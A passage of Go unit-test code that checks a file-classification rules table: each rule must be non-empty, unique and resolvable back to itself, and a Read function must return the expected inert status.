		if got := Read(tt.file, []byte(tt.src), discard); got.Inert != tt.want || got.Does != Page {
			t.Errorf("%s: %+v, want %v", tt.name, got, tt.want)
		}
	}
}

// TestRules holds that each row of the table can be met, and is not hidden behind another one.
func TestRules(t *testing.T) {
	seen := map[string]bool{}
	for _, r := range rules {
		if r.does == "" || r.match == "" {
			t.Errorf("%+v says nothing", r)
		}
		separator := " "
		if r.at == inMagic {
			separator = "|"
		}
		for match := range strings.SplitSeq(r.match, separator) {
			key := string(r.in) + "/" + string(r.at) + "/" + match
			if seen[key] {
				t.Errorf("%s stands twice", key)
			}
			seen[key] = true
			if got := ruleFor(r.in, r.at, strings.NewReplacer("*", "x", "?", "x").Replace(match)); got == nil || got.does != r.does && match != "*" {
				t.Errorf("%s leads to %+v", key, got)
			}
		}
	}
}
